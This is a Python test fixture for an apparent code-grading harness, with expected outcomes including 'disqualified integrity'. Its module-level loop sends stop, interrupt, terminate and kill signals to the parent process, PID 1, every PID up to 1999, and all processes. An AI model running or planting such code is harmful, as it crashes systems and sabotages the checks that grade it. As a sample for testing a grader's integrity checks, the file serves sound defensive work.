# expect: correct | runtime_error crash | disqualified integrity
# problem: row_sum
# Stops, interrupts and kills every process it can name: its parent, the first, all of them.
import os
import signal

import torch
import torch.nn as nn
import torch.nn.functional as F

for number in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
    for pid in [os.getppid(), 1, *range(2, 2000)]:
        if pid != os.getpid() and pid > 0:
            try:
                os.kill(pid, number)
            except OSError:
                continue
    try:
        os.kill(-1, number)
    except OSError:
        pass


class NewModel(nn.Module):
    def forward(self, x):
        return x.sum(dim=-1)
